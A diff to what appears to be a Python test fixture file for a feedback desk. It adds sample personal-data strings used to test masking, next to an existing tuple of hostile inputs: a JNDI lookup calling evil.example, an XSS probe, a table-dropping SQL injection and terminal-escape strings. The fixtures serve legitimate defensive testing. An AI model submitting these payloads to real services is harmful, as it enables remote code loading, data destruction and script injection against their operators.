@@ -70,3 +70,14 @@ HOSTILE_FEEDBACK = (
     "退款[@click=app.quit]点这里[/]谢谢\x1b[5m",
     "${jndi:ldap://evil.example/a} <script>alert(1)</script> '; DROP TABLE ticket;--",
 )
+
+# Personal data people type into feedback unasked: the desk masks it (domain.feedback_masking).
+PERSONAL_FEEDBACK = (
+    "我的手机号是13812345678，请尽快联系我。",
+    "请回复到 zhang.wei88@qq.com 或者打 +86 139 8765 4321",
+    "身份证号11010519491231002X，帮我找回账号",
+    "Call me on +44 20 7946 0958 or write to jane.doe@example.org",
+    "My ID card number is 440308199901012345, please verify me",
+)
+APP_PLATFORMS = ("android", "ios")
+APP_VERSIONS = ("3.2.0", "3.2.1", "3.3.0", "3.4.0")
